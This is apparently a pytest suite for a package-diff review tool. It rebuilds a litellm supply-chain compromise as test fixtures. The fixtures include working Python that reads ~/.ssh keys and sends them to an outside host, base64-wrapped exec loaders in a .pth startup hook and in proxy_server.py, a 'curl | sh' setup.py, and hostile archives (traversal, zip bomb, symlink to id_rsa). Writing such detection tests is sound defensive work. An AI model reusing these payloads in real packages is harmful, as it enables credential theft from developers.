"""``bumpguard diff`` and the diff ``approve`` records: real wheels and sdists served by a
real index on 127.0.0.1, real git repositories, the CLI through ``main``.

The scenario throughout is litellm's: 1.82.6 is clean, 1.82.8 (uploaded with a stolen
token) adds ``litellm_init.pth`` and an ``exec(base64...)`` payload in
``proxy/proxy_server.py`` that reads ``~/.ssh``.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import pty
import select
import subprocess
import sys
import tarfile
import zipfile
from collections.abc import Callable
from datetime import datetime, timezone
from pathlib import Path

import jsonschema
import pytest

from guard.artifacts.inspect_artifact import HostileArchive, read_artifact
from tests.conftest import Repo, bumpguard_cmd
from tests.indexserver import LocalIndex
from tests.wheels import (
    make_sdist,
    make_wheel,
    patch_member,
    tar_member,
    wheel_filename,
    zip_member,
)

OLD = datetime(2025, 1, 1, tzinfo=timezone.utc)
SCHEMA = json.loads((Path(__file__).parent.parent / "docs/diff.schema.json").read_text())

PROXY = b'''"""The litellm proxy server."""
import os

from litellm.router import Router


def start(config):
    return Router(config)
'''
STEAL = b"""import os, glob, json, urllib.request
keys = {p: open(p).read() for p in glob.glob(os.path.expanduser("~/.ssh/id_*"))}
urllib.request.urlopen("https://models.litellm.cloud/", json.dumps(keys).encode())
"""
BLOB = base64.b64encode(STEAL * 60).decode()  # about 13 KB of base64
PROXY_BAD = (
    PROXY
    + b"\nimport base64\n"
    + f'_CONFIG = "{BLOB}"\n'.encode()
    + b"exec(base64.b64decode(_CONFIG))\n"
    + b'\n\ndef _keys():\n    return open(os.path.expanduser("~/.ssh/id_rsa")).read()\n'
)
HOOK = (
    "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', "
    f"\"import base64; exec(base64.b64decode('{base64.b64encode(STEAL * 150).decode()}'))\"])\n"
).encode()


def litellm(version: str, *, bad: bool = False, extra: dict[str, bytes] | None = None) -> bytes:
    files = {
        "litellm/__init__.py": f'__version__ = "{version}"\n'.encode(),
        "litellm/router.py": b"class Router:\n    def __init__(self, config):\n        pass\n",
        "litellm/proxy/__init__.py": b"",
        "litellm/proxy/proxy_server.py": PROXY_BAD if bad else PROXY,
    }
    if bad:
        files["litellm_init.pth"] = HOOK
    files.update(extra or {})
    return make_wheel(
        "litellm",
        version,
        files,
        {"console_scripts": {"litellm": "litellm:main"}},
        top_level=["litellm"],
        requires=["httpx>=0.23", "openai>=1.0"],
    )


def serve(index: LocalIndex, version: str, data: bytes, filename: str | None = None) -> str:
    filename = filename or wheel_filename("litellm", version)
    index.add_file("litellm", version, filename, data, upload_time=OLD)
    return filename


@pytest.fixture
def scenario(local_index: LocalIndex) -> LocalIndex:
    serve(local_index, "1.82.6", litellm("1.82.6"))
    serve(local_index, "1.82.8", litellm("1.82.8", bad=True))
    return local_index


def diff_json(repo: Repo, index: LocalIndex, capsys: pytest.CaptureFixture[str], *args: str):
    capsys.readouterr()
    code = repo.run("diff", "litellm", *args, "--format", "json", "--index-url", index.url)
    out = capsys.readouterr().out
    assert code == 0, out
    data = json.loads(out)
    jsonschema.validate(data, SCHEMA)
    return data


# --------------------------------------------------------------------------- the scenario


def test_diff_shows_the_hook_and_both_signals(
    repo: Repo, scenario: LocalIndex, capsys: pytest.CaptureFixture[str]
) -> None:
    assert repo.run("diff", "litellm", "1.82.6", "1.82.8", "--index-url", scenario.url) == 0
    out = capsys.readouterr().out
    hook_sha = hashlib.sha256(HOOK).hexdigest()
    assert "litellm 1.82.6 -> 1.82.8" in out
    assert f"+ litellm_init.pth  {len(HOOK):,} bytes  sha256:{hook_sha}" in out
    assert "first code: import os, subprocess, sys; subprocess.Popen(" in out
    assert "files: 1 added, 0 removed, 4 changed" in out  # with METADATA and RECORD
    proxy = "litellm/proxy/proxy_server.py"
    lines = PROXY_BAD.decode().splitlines()
    exec_line = lines.index("exec(base64.b64decode(_CONFIG))") + 1
    ssh_line = next(i for i, line in enumerate(lines, 1) if "~/.ssh/id_rsa" in line)
    assert f"exec-decoded       {proxy}:{exec_line}" in out
    assert f"credential-read    {proxy}:{ssh_line}" in out
    assert f"encoded-blob       {proxy}:{exec_line - 1}" in out
    assert (
        "to approve, name each of these with --accept PATH:\n  litellm_init.pth\n  " + proxy in out
    )

    data = diff_json(repo, scenario, capsys, "1.82.6", "1.82.8")
    assert [h["path"] for h in data["startup_hooks"]["added"]] == ["litellm_init.pth"]
    assert data["startup_hooks"]["added"][0]["sha256"] == hook_sha
    kinds = {(s["kind"], s["path"], s["line"]) for s in data["signals"]}
    assert ("exec-decoded", proxy, exec_line) in kinds
    assert ("credential-read", proxy, ssh_line) in kinds
    # The hook itself is Python that runs: its exec(base64) is a signal too.
    assert any(s["path"] == "litellm_init.pth" and s["severity"] == "high" for s in data["signals"])
    assert data["needs_accept"] == ["litellm_init.pth", proxy]
    assert data["files"]["added"] == ["litellm_init.pth"]
    assert data["origins"] == {"old": scenario.host, "new": scenario.host}


def test_same_release_twice_is_an_empty_diff(
    repo: Repo, scenario: LocalIndex, capsys: pytest.CaptureFixture[str]
) -> None:
    data = diff_json(repo, scenario, capsys, "1.82.6", "1.82.6")
    assert data["files"]["added"] == data["files"]["changed"] == []
    assert data["signals"] == [] and data["needs_accept"] == []
    # 4 modules, and METADATA, WHEEL, top_level.txt, entry_points.txt and RECORD
    assert data["files"]["unchanged"] == 9


def test_new_may_be_a_local_file(
    repo: Repo, scenario: LocalIndex, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    local = tmp_path / wheel_filename("litellm", "1.82.8")
    local.write_bytes(litellm("1.82.8", bad=True))
    data = diff_json(repo, scenario, capsys, "1.82.6", str(local))
    assert data["new"]["filename"] == local.name
    assert data["origins"]["new"] == str(local)
    assert data["needs_accept"] == ["litellm_init.pth", "litellm/proxy/proxy_server.py"]
    # A file of another package is a usage error.
    other = tmp_path / wheel_filename("openai", "1.0")
    other.write_bytes(make_wheel("openai", "1.0", {"openai/__init__.py": b""}))
    assert repo.run("diff", "litellm", "1.82.6", str(other), "--index-url", scenario.url) == 2
    assert "is a file of openai, not of litellm" in capsys.readouterr().err


def test_digest_is_stable_and_the_same_as_approve_records(
    repo: Repo, local_index: LocalIndex, capsys: pytest.CaptureFixture[str]
) -> None:
    serve(local_index, "1.82.6", litellm("1.82.6"))
    serve(
        local_index,
        "1.83.0",
        litellm("1.83.0", extra={"litellm/cost.py": b"def cost(tokens):\n    return 0\n"}),
    )
    repo.write(".bumpguard.yaml", "version: 1\nprotect: [litellm]\n")
    first = diff_json(repo, local_index, capsys, "1.82.6", "1.83.0")
    again = diff_json(repo, local_index, capsys, "1.82.6", "1.83.0")
    assert first["digest"] == again["digest"]
    approve = ("approve", "--reason", "r", "--index-url", local_index.url)
    assert repo.run(*approve[:1], "litellm==1.82.6", *approve[1:]) == 0
    assert repo.run(*approve[:1], "litellm==1.83.0", *approve[1:]) == 0
    out = capsys.readouterr().out
    # The summary is printed before the approval is recorded.
    assert out.index("litellm 1.82.6 -> 1.83.0") < out.index("approved litellm==1.83.0")
    assert "reviewed as a diff from 1.82.6" in out
    ledger = json.loads((repo.path / ".bumpguard/approvals/litellm.json").read_text())
    approvals = {a["version"]: a for a in ledger["approvals"]}
    assert "reviewed_from" not in approvals["1.82.6"]  # the first review has nothing to diff
    assert approvals["1.83.0"]["reviewed_from"] == "1.82.6"
    assert approvals["1.83.0"]["diff_digest"] == first["digest"]
    assert approvals["1.83.0"]["accepted"] == []
    # The check's verdict does not change: both versions are reviewed.
    repo.write("requirements.txt", "litellm==1.83.0\n")
    repo.add()
    assert repo.run("check") == 0


def test_approve_refuses_a_new_hook_until_it_is_named(
    repo: Repo, local_index: LocalIndex, capsys: pytest.CaptureFixture[str]
) -> None:
    hook = b"import acme_boot; acme_boot.setup()\n"
    serve(local_index, "1.82.6", litellm("1.82.6"))
    serve(local_index, "1.83.0", litellm("1.83.0", extra={"litellm_tracing.pth": hook}))
    repo.write(".bumpguard.yaml", "version: 1\nprotect: [litellm]\n")
    approve = ("--reason", "r", "--index-url", local_index.url)
    assert repo.run("approve", "litellm==1.82.6", *approve) == 0
    ledger = repo.path / ".bumpguard/approvals/litellm.json"
    before = ledger.read_bytes()
    capsys.readouterr()
    assert repo.run("approve", "litellm==1.83.0", *approve) == 1
    captured = capsys.readouterr()
    assert "+ litellm_tracing.pth" in captured.out  # the diff was shown
    assert "--accept litellm_tracing.pth" in captured.err
    assert ledger.read_bytes() == before  # nothing recorded
    # Naming something the diff does not flag is a usage error, and records nothing.
    named = ("--accept", "litellm_tracing.pth", "--accept", "litellm.pth")
    assert repo.run("approve", "litellm==1.83.0", *approve, *named) == 2
    assert "names no start-up hook or flagged file" in capsys.readouterr().err
    assert ledger.read_bytes() == before
    assert repo.run("approve", "litellm==1.83.0", *approve, "--accept", "litellm_tracing.pth") == 0
    approvals = {a["version"]: a for a in json.loads(ledger.read_text())["approvals"]}
    assert approvals["1.83.0"]["accepted"] == ["litellm_tracing.pth"]
    assert approvals["1.83.0"]["reviewed_from"] == "1.82.6"


def test_approve_of_the_malicious_release_shows_the_diff_and_refuses(
    repo: Repo, scenario: LocalIndex, capsys: pytest.CaptureFixture[str]
) -> None:
    repo.write(".bumpguard.yaml", "version: 1\nprotect: [litellm]\n")
    approve = ("--reason", "r", "--index-url", scenario.url)
    assert repo.run("approve", "litellm==1.82.6", *approve) == 0
    ledger = repo.path / ".bumpguard/approvals/litellm.json"
    before = ledger.read_bytes()
    capsys.readouterr()
    # 1.82.8 itself is denied outright (the built-in deny list), before any download.
    assert repo.run("approve", "litellm==1.82.8", *approve) == 1
    assert "no approval can override a deny" in capsys.readouterr().err
    # The same payload in a release nobody has listed yet: the diff shows it, and approve
    # wants both the hook and the file with the exec(base64) named.
    serve(scenario, "1.82.9", litellm("1.82.9", bad=True))
    assert repo.run("approve", "litellm==1.82.9", *approve) == 1
    captured = capsys.readouterr()
    assert "+ litellm_init.pth" in captured.out and "exec-decoded" in captured.out
    assert "--accept litellm_init.pth" in captured.err
    assert "--accept litellm/proxy/proxy_server.py" in captured.err
    # Naming both still refuses: the inspection knows litellm 1.82.8's hook by name.
    accepts = ("--accept", "litellm_init.pth", "--accept", "litellm/proxy/proxy_server.py")
    assert repo.run("approve", "litellm==1.82.9", *approve, *accepts) == 1
    assert "litellm 1.82.8's start-up hook" in capsys.readouterr().err
    assert ledger.read_bytes() == before


def test_offline_approve_records_no_diff(repo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    assert repo.run("approve", "requests==2.0.0", "--reason", "r", "--offline") == 0
    assert repo.run("approve", "requests==2.1.0", "--reason", "r", "--offline") == 0
    ledger = json.loads((repo.path / ".bumpguard/approvals/requests.json").read_text())
    assert all("reviewed_from" not in a for a in ledger["approvals"])


# --------------------------------------------------------------------------- what it reports


def test_requirements_entry_points_modules_and_native_code(
    repo: Repo, local_index: LocalIndex, capsys: pytest.CaptureFixture[str]
) -> None:
    serve(
        local_index,
        "1.0",
        make_wheel(
            "litellm",
            "1.0",
            {"litellm/__init__.py": b"", "litellm/old.py": b"x = 1\n"},
            {"console_scripts": {"litellm": "litellm:main"}},
            requires=["httpx>=0.23", "tqdm"],
        ),
    )
    serve(
        local_index,
        "1.1",
        make_wheel(
            "litellm",
            "1.1",
            {
                "litellm/__init__.py": b"",
                "litellm/_speedups.cpython-311-x86_64-linux-gnu.so": b"\x7fELF\0\0\0",
                "telemetry/__init__.py": b"",
            },
            {
                "console_scripts": {"litellm": "litellm.cli:main", "pip": "telemetry:main"},
                "litellm.plugins": {"t": "telemetry:plugin"},
            },
            top_level=["litellm", "telemetry"],
            requires=["httpx>=0.27", "telemetry-sdk; extra == 'all'"],
        ),
    )
    data = diff_json(repo, local_index, capsys, "1.0", "1.1")
    assert data["modules"] == {"added": ["telemetry"], "removed": []}
    assert data["files"]["removed"] == ["litellm/old.py"]
    assert data["native_added"] == ["litellm/_speedups.cpython-311-x86_64-linux-gnu.so"]
    requires = {c["name"]: (c["old"], c["new"]) for c in data["requires_dist"]}
    assert requires == {
        "httpx": ("httpx>=0.23", "httpx>=0.27"),
        "tqdm": ("tqdm", None),
        'telemetry-sdk; extra == "all"': (None, 'telemetry-sdk; extra == "all"'),
    }
    points = {c["name"]: (c["old"], c["new"]) for c in data["entry_points"]}
    assert points == {
        "console_scripts:litellm": ("litellm:main", "litellm.cli:main"),
        "console_scripts:pip": (None, "telemetry:main"),
        "litellm.plugins:t": (None, "telemetry:plugin"),
    }
    # The dist-info folder is compared across versions, not listed as removed and added.
    assert "litellm.dist-info/METADATA" in data["files"]["changed"]


def test_sdists_show_build_time_code(
    repo: Repo, local_index: LocalIndex, capsys: pytest.CaptureFixture[str]
) -> None:
    def sdist(version: str, setup: bytes, backend: str, more: dict[str, bytes]) -> bytes:
        pyproject = f'[build-system]\nrequires = ["{backend}"]\nbuild-backend = "x"\n'
        files = {
            "setup.py": setup,
            "pyproject.toml": pyproject.encode(),
            "src/litellm/__init__.py": b"",
        }
        return make_sdist("litellm", version, {**files, **more})

    serve(
        local_index,
        "1.0",
        sdist("1.0", b"from setuptools import setup\nsetup()\n", "setuptools", {}),
        "litellm-1.0.tar.gz",
    )
    serve(
        local_index,
        "1.1",
        sdist(
            "1.1",
            b"import os\nfrom setuptools import setup\n"
            b"os.system('curl -s https://x.example/i | sh')\nsetup()\n",
            "setuptools>=80",
            {"src/litellm/_fast.c": b"int f(void) { return 0; }\n"},
        ),
        "litellm-1.1.tar.gz",
    )
    data = diff_json(repo, local_index, capsys, "1.0", "1.1")
    assert data["old"]["kind"] == data["new"]["kind"] == "sdist"
    built = {c["name"] for c in data["build_changed"]}
    assert built == {"setup.py", "pyproject.toml [build-system]"}
    assert data["files"]["added"] == ["src/litellm/_fast.c"]
    assert data["modules"] == {"added": [], "removed": []}
    assert any(s["kind"] == "run-downloaded" and s["path"] == "setup.py" for s in data["signals"])


def test_full_diff_escapes_what_would_redraw_the_terminal(
    repo: Repo, local_index: LocalIndex, capsys: pytest.CaptureFixture[str]
) -> None:
    serve(local_index, "1.0", litellm("1.0"))
    sneaky = PROXY + b"# looks harmless\x1b[1A\x1b[2K\rimport os  # \xe2\x80\xae hidden\n"
    extra = {"litellm/proxy/proxy_server.py": sneaky, "litellm/model.bin": b"\0\1\2"}
    serve(local_index, "1.1", litellm("1.1", extra=extra))
    capsys.readouterr()
    args = ("diff", "litellm", "1.0", "1.1", "--full", "--index-url", local_index.url)
    assert repo.run(*args) == 0
    out = capsys.readouterr().out
    assert "--- a/litellm/proxy/proxy_server.py\n+++ b/litellm/proxy/proxy_server.py" in out
    # A carriage return ends a line for Python too; the rest is shown escaped.
    assert "+# looks harmless\\x1b[1A\\x1b[2K\n+import os  # \\x202e hidden\n" in out
    assert "\x1b" not in out and "\u202e" not in out and "\r" not in out
    assert "Binary file litellm/model.bin added\n" in out
    version = '+++ b/litellm/__init__.py\n@@ -1 +1 @@\n-__version__ = "1.0"\n+__version__ = "1.1"'
    assert version in out


def test_full_diff_goes_through_the_pager_on_a_terminal(
    repo: Repo, scenario: LocalIndex, tmp_path: Path
) -> None:
    paged = tmp_path / "paged.txt"
    env = {**os.environ, "PAGER": f"cat > {paged}", "PYTHONPATH": str(Path.cwd())}
    env.pop("LESS", None)
    args = ["diff", "litellm", "1.82.6", "1.82.8", "--full", "--index-url", scenario.url]
    leader, follower = pty.openpty()
    proc = subprocess.Popen(
        [*bumpguard_cmd(), "-C", str(repo.path), *args],
        stdout=follower,
        stderr=subprocess.PIPE,
        env=env,
    )
    os.close(follower)
    seen = b""
    while True:  # drain the terminal so the child never blocks on it
        ready, _, _ = select.select([leader], [], [], 0.2)
        if ready:
            try:
                chunk = os.read(leader, 65536)
            except OSError:
                break
            if not chunk:
                break
            seen += chunk
        elif proc.poll() is not None:
            break
    code = proc.wait(timeout=60)
    assert proc.stderr is not None
    err = proc.stderr.read()
    proc.stderr.close()
    os.close(leader)
    assert code == 0, err
    text = paged.read_text()
    assert "+++ b/litellm_init.pth" in text and "exec(base64.b64decode(_CONFIG))" in text
    assert b"+++ b/litellm_init.pth" not in seen  # it went to the pager, not the terminal
    # Not a terminal: no pager, straight out.
    paged.unlink()
    piped = subprocess.run(
        [*bumpguard_cmd(), "-C", str(repo.path), *args], capture_output=True, env=env, check=True
    )
    assert b"+++ b/litellm_init.pth" in piped.stdout and not paged.exists()


# --------------------------------------------------------------------------- hashes


def test_lock_and_ledger_hashes_are_checked(
    repo: Repo, scenario: LocalIndex, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    good = hashlib.sha256(litellm("1.82.6")).hexdigest()
    repo.write("requirements.txt", f"litellm==1.82.6 --hash=sha256:{good}\n")
    repo.add()
    assert repo.run("diff", "litellm", "1.82.6", "1.82.8", "--index-url", scenario.url) == 0
    repo.write("requirements.txt", f"litellm==1.82.6 --hash=sha256:{'0' * 64}\n")
    repo.add()
    capsys.readouterr()
    assert repo.run("diff", "litellm", "1.82.6", "1.82.8", "--index-url", scenario.url) == 1
    assert "none of the 1 file(s)" in capsys.readouterr().err
    # The lock holds the sdist but not the wheel the index serves: the sdist is compared,
    # and the summary says why.
    sdist = make_sdist("litellm", "1.82.6", {"litellm/__init__.py": b""})
    scenario.add_file("litellm", "1.82.6", "litellm-1.82.6.tar.gz", sdist, upload_time=OLD)
    held = hashlib.sha256(sdist).hexdigest()
    repo.write(
        "requirements.txt", f"litellm==1.82.6 --hash=sha256:{held} --hash=sha256:{'0' * 64}\n"
    )
    repo.add()
    data = diff_json(repo, scenario, capsys, "1.82.6", "1.82.8")
    assert data["old"]["filename"] == "litellm-1.82.6.tar.gz"
    assert any("litellm-1.82.6-py3-none-any.whl on 127.0.0.1" in n for n in data["notes"])
    assert any("comparing an sdist with a wheel" in n for n in data["notes"])
    # A local file that is not what the lock pins is refused too.
    local = tmp_path / wheel_filename("litellm", "1.82.6")
    local.write_bytes(litellm("1.82.6", extra={"litellm/x.py": b""}))
    assert repo.run("diff", "litellm", str(local), "1.82.8", "--index-url", scenario.url) == 1
    assert "is not one requirements.txt records for litellm 1.82.6" in capsys.readouterr().err
    # The ledger's hashes count the same way.
    repo.write("requirements.txt", "")
    repo.run(
        "approve", "litellm==1.82.6", "--reason", "r", "--offline", "--hash", "sha256:" + "1" * 64
    )
    repo.add()
    capsys.readouterr()
    assert repo.run("diff", "litellm", "1.82.6", "1.82.8", "--index-url", scenario.url) == 1
    assert "the index serves other bytes than were reviewed" in capsys.readouterr().err


# --------------------------------------------------------------------------- bad input


def test_bad_input_is_exit_2_naming_what(
    repo: Repo, scenario: LocalIndex, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    def refused(*args: str) -> str:
        capsys.readouterr()
        assert repo.run("diff", *args, "--index-url", scenario.url) == 2
        return capsys.readouterr().err

    assert "no project no-such-package on" in refused("no-such-package", "1.0", "2.0")
    assert f"no release litellm 9.9 on {scenario.host}" in refused("litellm", "1.82.6", "9.9")
    assert "neither a version nor an artifact file" in refused("litellm", "1.82.6", "latest")
    assert "no such file" in refused("litellm", "1.82.6", str(tmp_path / "litellm-2.0.tar.gz"))
    scenario.stop()
    err = refused("litellm", "1.82.6", "1.82.8")
    assert "127.0.0.1" in err and "Traceback" not in err


def test_approve_with_an_unreachable_index_records_nothing(
    repo: Repo, local_index: LocalIndex, capsys: pytest.CaptureFixture[str]
) -> None:
    serve(local_index, "1.82.6", litellm("1.82.6"))
    assert repo.run("approve", "litellm==1.82.6", "--reason", "r", "--offline") == 0
    local_index.stop()
    ledger = repo.path / ".bumpguard/approvals/litellm.json"
    before = ledger.read_bytes()
    assert (
        repo.run("approve", "litellm==1.83.0", "--reason", "r", "--index-url", local_index.url) == 2
    )
    assert ledger.read_bytes() == before


def with_member(name: str, data: bytes, mode: int = 0o100644) -> Callable[[], bytes]:
    """A builder of a 1.82.8 wheel with one more member, verbatim."""
    return lambda: make_wheel(
        "litellm", "1.82.8", {"litellm/__init__.py": b""}, extra=[(zip_member(name, mode), data)]
    )


traversal_wheel = with_member("../../escaped.pth", b"import os\n")
symlink_wheel = with_member("litellm/key", b"/root/.ssh/id_rsa", 0o120777)
duplicate_wheel = with_member("litellm/__init__.py", b"import os\n")


def lying_wheel() -> bytes:
    data = make_wheel("litellm", "1.82.8", {"litellm/__init__.py": b"x = 1\n" * 1000})
    return patch_member(data, "litellm/__init__.py", "size", 10, central=False)


def bomb_wheel() -> bytes:
    return make_wheel("litellm", "1.82.8", {"litellm/zeros.bin": bytes(40 * 1024 * 1024)})


@pytest.mark.parametrize(
    ("build", "reason"),
    [
        (traversal_wheel, "path traversal"),
        (bomb_wheel, "(zip bomb)"),
        (symlink_wheel, "symbolic link"),
        (duplicate_wheel, "duplicate member name"),
        (lying_wheel, "local header says"),
    ],
)
def test_hostile_archives_are_refused_and_nothing_is_extracted(
    repo: Repo,
    local_index: LocalIndex,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    build,
    reason: str,
) -> None:
    serve(local_index, "1.82.6", litellm("1.82.6"))
    serve(local_index, "1.82.8", build())
    work = tmp_path / "work" / "deep"
    work.mkdir(parents=True)
    before = sorted(p.name for p in tmp_path.rglob("*"))
    capsys.readouterr()
    code = main_in(work, "diff", "litellm", "1.82.6", "1.82.8", "--index-url", local_index.url)
    assert code == 1
    err = capsys.readouterr().err
    assert "is a hostile archive, nothing read from it" in err and reason in err
    assert sorted(p.name for p in tmp_path.rglob("*")) == before
    assert not (tmp_path / "escaped.pth").exists()


def main_in(folder: Path, *args: str) -> int:
    from guard.cli import main

    return main(["-C", str(folder), *args])


def test_hostile_sdists_are_refused(tmp_path: Path) -> None:
    outside = make_sdist(
        "litellm", "1.0", {}, extra=[(tar_member("litellm-1.0/k", tarfile.SYMTYPE, "/etc"), b"")]
    )
    with pytest.raises(HostileArchive, match="symbolic link to the absolute path"):
        read_artifact(outside, "litellm-1.0.tar.gz")
    # A link inside the archive is read as a link, never followed.
    inside = make_sdist(
        "litellm",
        "1.0",
        {"a.py": b"x = 1\n"},
        extra=[(tar_member("litellm-1.0/b.py", tarfile.SYMTYPE, "a.py"), b"")],
    )
    _, members = read_artifact(inside, "litellm-1.0.tar.gz")
    assert {m.name: (m.data, m.link) for m in members}["litellm-1.0/b.py"] == (b"", "a.py")


def test_a_member_that_does_not_decompress_is_refused() -> None:
    data = bytearray(make_wheel("litellm", "1.0", {"litellm/big.py": b"x = 1\n" * 5000}))
    with zipfile.ZipFile(__import__("io").BytesIO(bytes(data))) as archive:
        info = archive.getinfo("litellm/big.py")
    start = info.header_offset + 30 + len(info.filename) + 10
    data[start : start + 8] = b"\xff" * 8  # corrupt the deflate stream, headers intact
    report, members = read_artifact(bytes(data), "litellm-1.0-py3-none-any.whl")
    assert not report.denied  # the inspection does not read this member...
    with pytest.raises(HostileArchive, match=r"litellm/big\.py"):
        list(members)  # ...reading it refuses


def test_diff_runs_outside_a_repository(
    scenario: LocalIndex, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "plain"
    folder.mkdir()
    assert main_in(folder, "diff", "litellm", "1.82.6", "1.82.8", "--index-url", scenario.url) == 0
    assert "+ litellm_init.pth" in capsys.readouterr().out


def test_ledger_fields_of_a_diff_review_are_validated(
    repo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    base = {"version": "1.0", "reviewer": "r", "approved_at": "t", "reason": "r"}
    cases = [
        ({"reviewed_from": 1, "diff_digest": "x"}, "'reviewed_from' must be a string"),
        ({"reviewed_from": "0.9"}, "'reviewed_from' and 'diff_digest' go together"),
        ({"accepted": "x.pth"}, "'accepted' must be a list of strings"),
    ]
    repo.write("requirements.txt", "litellm==1.0\n")
    for extra, message in cases:
        ledger = {"schema": 1, "package": "litellm", "approvals": [{**base, **extra}]}
        repo.write(".bumpguard/approvals/litellm.json", json.dumps(ledger, indent=1))
        repo.add()
        capsys.readouterr()
        assert repo.run("check") == 2
        err = capsys.readouterr().err
        assert ".bumpguard/approvals/litellm.json:" in err and message in err


def test_cli_help_lists_diff() -> None:
    out = subprocess.run(
        [*bumpguard_cmd(), "diff", "--help"], capture_output=True, text=True, check=True
    ).stdout
    assert "--full" in out and "--format" in out and "OLD" in out
    assert sys.executable  # the same interpreter runs the CLI
